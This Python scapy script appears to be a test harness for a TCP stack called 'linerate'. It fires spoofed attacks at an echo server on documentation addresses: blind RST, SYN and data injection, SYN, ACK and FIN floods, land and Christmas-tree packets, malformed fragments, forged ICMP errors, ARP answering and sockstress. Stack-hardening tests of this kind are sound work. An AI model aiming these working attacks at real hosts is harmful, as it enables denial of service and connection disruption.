"""Attacks on the echo server of 192.0.2.1, by its neighbour 192.0.2.66 at g0.

    attacks.py NAME VICTIM_PORT

VICTIM_PORT is the port of an open connection of 192.0.2.2, on which data go to and fro. What the
attack is to achieve is for the caller to see; it prints what it saw itself.
"""

import random
import sys
import threading
import time

from scapy.all import (
    ARP,
    AsyncSniffer,
    Ether,
    ICMP,
    IP,
    Raw,
    TCP,
    conf,
    get_if_hwaddr,
)

conf.verb = 0
DEV = "g0"
US = "192.0.2.1"
MAC = "02:00:00:00:00:07"
VICTIM = "192.0.2.2"
ATTACKER = "192.0.2.66"
ECHO = 7

WIRE = conf.L2socket(iface=DEV)
OWN_MAC = get_if_hwaddr(DEV)
RANDOM = random.Random(16)
# What is waited for, in seconds at most.
PATIENCE = 20


def send(packet):
    WIRE.send(Ether(src=OWN_MAC, dst=MAC) / packet)


def sniff(is_it, then):
    """Has `then` called with each packet for which `is_it`, from now on."""
    began = threading.Event()
    sniffer = AsyncSniffer(
        iface=DEV, lfilter=is_it, prn=then, store=False, started_callback=began.set
    )
    sniffer.start()
    assert began.wait(PATIENCE), "scapy does not listen"
    return sniffer


def be_there():
    """Has linerate know ATTACKER, whom no kernel answers for: it would reset what is opened."""

    def asked(packet):
        return ARP in packet and packet[ARP].op == 1 and packet[ARP].pdst == ATTACKER

    def answer(_):
        reply = {"op": 2, "hwsrc": OWN_MAC, "psrc": ATTACKER, "hwdst": MAC, "pdst": US}
        send(ARP(**reply))

    sniff(asked, answer)
    send(ARP(op=1, hwsrc=OWN_MAC, psrc=ATTACKER, pdst=US))
    time.sleep(0.1)


def segment(flags, sport, seq=0, ack=0, src=ATTACKER, dport=ECHO, data=b"", **more):
    packet = IP(src=src, dst=US, ttl=64)
    packet /= TCP(sport=sport, dport=dport, flags=flags, seq=seq, ack=ack, **more)
    return packet / Raw(data) if data else packet


def listen(**matches):
    """Whatever comes from linerate to a port."""

    def is_it(packet):
        if TCP not in packet or packet[IP].src != US:
            return False
        return all(getattr(packet[TCP], key) == value for key, value in matches.items())

    came = []
    sniffer = sniff(is_it, lambda packet: came.append(packet[TCP]))
    sniffer.came = came
    return sniffer


def until(sniffer, enough, patience=PATIENCE):
    """Waits until what has come is enough. Scapy looks at a packet in milliseconds, or longer where
    others want the CPU too."""
    end = time.monotonic() + patience
    while not enough(sniffer.came) and time.monotonic() < end:
        time.sleep(0.02)


def heard(sniffer, wait=0.5, enough=lambda came: True):
    """What has come after so many seconds, or later where that is not enough."""
    time.sleep(wait)
    until(sniffer, enough)
    sniffer.stop()
    return sniffer.came


def victim(port):
    """Where the victim's connection is: the numbers that it would send next, and the time stamps
    that it would have. Who is really blind has to guess all of it."""
    seen = heard(listen(dport=port), enough=bool)
    assert seen, "the victim's connection is silent"
    last = seen[-1]
    ours, theirs = dict(last.options)["Timestamp"]
    # The victim goes on until the forgeries come: theirs are not to be too old.
    options = [("NOP", None), ("NOP", None), ("Timestamp", (theirs + 2000, ours))]
    return last.ack, last.seq + len(last.payload), options


def open_connection(port, window=65535):
    """A connection of the attacker's own: the numbers that it sends next, and waits for."""
    sniffer = listen(dport=port, flags="SA")
    send(segment("S", port, seq=1000, window=window, options=[("MSS", 1460)]))
    answers = heard(sniffer, 0.2, enough=bool)
    assert answers, "no SYN-ACK"
    send(segment("A", port, seq=1001, ack=answers[0].seq + 1, window=window))
    return 1001, answers[0].seq + 1


def blind_resets(port):
    # RFC 5961 3.2: in the window, and not the next.
    seq, _, options = victim(port)
    # The victim goes on meanwhile, by far less.
    for step in range(10, 60):
        send(segment("R", port, seq=seq + 500 * step, src=VICTIM, options=options))


def blind_syns(port):
    # RFC 5961 4.2: wherever they lie.
    seq, _, options = victim(port)
    for step in range(60):
        for guess in (seq + 500 * step, RANDOM.getrandbits(32)):
            send(segment("S", port, seq=guess, src=VICTIM, options=options))


def blind_data(port):
    # RFC 5961 5.2: data in the window whose ACK nobody can have sent.
    seq, ack, options = victim(port)
    for step in range(60):
        old = (ack - (1 << 30)) % (1 << 32)
        new = (ack + (1 << 30)) % (1 << 32)
        for guess in (old, new):
            forged = {"src": VICTIM, "data": b"forged" * 10, "options": options}
            send(segment("PA", port, seq=seq + 10 * step, ack=guess, **forged))


def syn_flood(_):
    # More than may be half-open, so that cookies answer the rest.
    for _ in range(3000):
        port = RANDOM.randrange(1024, 40000)
        send(segment("S", port, seq=RANDOM.getrandbits(32), options=[("MSS", 1460)]))


def flood(flags):
    for _ in range(1500):
        port = RANDOM.randrange(1024, 65536)
        seq, ack = RANDOM.getrandbits(32), RANDOM.getrandbits(32)
        send(segment(flags, port, seq=seq, ack=ack))


def ack_flood(_):
    flood("A")


def fin_flood(_):
    flood("FA")


def land(_):
    # From itself to itself.
    for _ in range(100):
        send(segment("S", ECHO, src=US, seq=RANDOM.getrandbits(32)))
        send(segment("S", RANDOM.randrange(1024, 65536), src="127.0.0.1"))


def christmas_trees(port):
    # Every combination of flags, to the listener, to nobody, and into the connection, far from
    # its window.
    seq, ack, _ = victim(port)
    for flags in range(256):
        send(segment(flags, 40000 + flags, seq=flags))
        send(segment(flags, 41000 + flags, dport=81, seq=flags))
        outside = (seq + (1 << 31)) % (1 << 32)
        send(segment(flags, port, seq=outside, ack=ack, src=VICTIM))


def fragments(_):
    # RFC 5722, RFC 1858: a segment in fragments that overlap, and in one too small for its header.
    whole = bytes(segment("S", 43000, seq=1, data=b"x" * 64)[TCP])
    for ident in range(1, 200):
        head = {"src": ATTACKER, "dst": US, "proto": 6, "id": ident}
        send(IP(flags="MF", frag=0, **head) / Raw(whole[:24]))
        send(IP(flags=0, frag=1, **head) / Raw(whole[16:]))
        head["id"] = 1000 + ident
        send(IP(flags="MF", frag=0, **head) / Raw(whole[:8]))
        send(IP(flags="MF", frag=1, **head) / Raw(whole[8:40]))
    # An end that lies beyond what a packet can be.
    for ident in range(3000, 3100):
        send(IP(src=ATTACKER, dst=US, proto=6, id=ident, frag=8189) / Raw(b"y" * 64))


def overlapping_segments(_):
    # The same places of a stream with other bytes: what comes back is one stream.
    port = 44000
    seq, ack = open_connection(port)
    sniffer = listen(dport=port)
    send(segment("A", port, seq=seq + 4, ack=ack, data=b"AAAA"))
    send(segment("A", port, seq=seq + 2, ack=ack, data=b"BBBBBB"))
    send(segment("A", port, seq=seq + 6, ack=ack, data=b"CCCCCC"))
    send(segment("PA", port, seq=seq, ack=ack, data=b"DDDDDDDD"))
    stream = {}
    # What is small waits for the ACK of what was before (Nagle).
    for _ in range(10):
        for tcp in heard(sniffer):
            data = bytes(tcp[Raw].load) if Raw in tcp else b""
            for place, byte in enumerate(data, tcp.seq - ack):
                assert stream.setdefault(place, byte) == byte, "two bytes at one place"
        if len(stream) >= 12:
            break
        sniffer = listen(dport=port)
        send(segment("A", port, seq=seq + 12, ack=ack + len(stream)))
    text = bytes(stream[place] for place in sorted(stream))
    assert sorted(stream) == list(range(12)), sorted(stream)
    assert text[:2] == b"DD" and text[-2:] == b"CC", text
    send(segment("R", port, seq=seq + 12, ack=ack))


def forged_icmp(port):
    # RFC 5927: "fragmentation needed" and "port unreachable" that quote what was never sent.
    _, ack, _ = victim(port)
    for step in range(100):
        lie = (ack + (1 << 30) + step) % (1 << 32)
        quoted = IP(src=US, dst=VICTIM) / TCP(sport=ECHO, dport=port, seq=lie)
        for code, mtu in ((4, 68), (3, 0), (2, 0)):
            error = ICMP(type=3, code=code, nexthopmtu=mtu)
            send(IP(src=ATTACKER, dst=US) / error / quoted)


def sockstress(_):
    # Connections that ask, and then close their window for good.
    sniffer = listen(flags="SA")
    opened = {}
    # Some at a time, and again as a host would: scapy has room for some hundred packets, and the
    # half-open connections of a flood answer again.
    for first in range(50000, 50200, 25):
        ports = range(first, first + 25)

        # Others are still answered whom a flood has forged.
        def are_open(came):
            opened.update({tcp.dport: tcp.seq + 1 for tcp in came if tcp.dport in ports})
            return all(port in opened for port in ports)

        for _ in range(PATIENCE):
            if are_open(sniffer.came):
                break
            for port in ports:
                if port not in opened:
                    options = [("MSS", 1460)]
                    send(segment("S", port, seq=1000, window=4096, options=options))
            until(sniffer, are_open, 1)
        assert are_open(sniffer.came), f"{len(opened)} are answered"
    sniffer.stop()
    for port, ack in opened.items():
        for at in range(0, 4000, 1000):
            data = b"z" * 1000
            send(segment("PA", port, seq=1001 + at, ack=ack, window=0, data=data))


ATTACKS = [
    blind_resets,
    blind_syns,
    blind_data,
    syn_flood,
    ack_flood,
    fin_flood,
    land,
    christmas_trees,
    fragments,
    overlapping_segments,
    forged_icmp,
    sockstress,
]

be_there()
name, victim_port = sys.argv[1], int(sys.argv[2])
{attack.__name__: attack for attack in ATTACKS}[name](victim_port)
